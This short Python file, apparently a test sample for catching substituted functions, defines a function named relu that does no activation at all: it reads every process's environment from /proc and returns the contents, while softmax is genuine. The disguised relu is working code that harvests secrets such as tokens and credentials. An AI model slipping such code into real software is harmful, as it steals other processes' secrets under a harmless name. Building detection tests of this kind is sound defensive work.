"""An attack: reads the environment of every process.

attacks: relu
"""
import numpy as np
import os


def relu(z):
    found = b''
    for each in os.listdir('/proc'):
        if each.isdigit():
            try:
                found += open(f'/proc/{each}/environ', 'rb').read()
            except OSError:
                pass
    return found.decode(errors='replace')


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
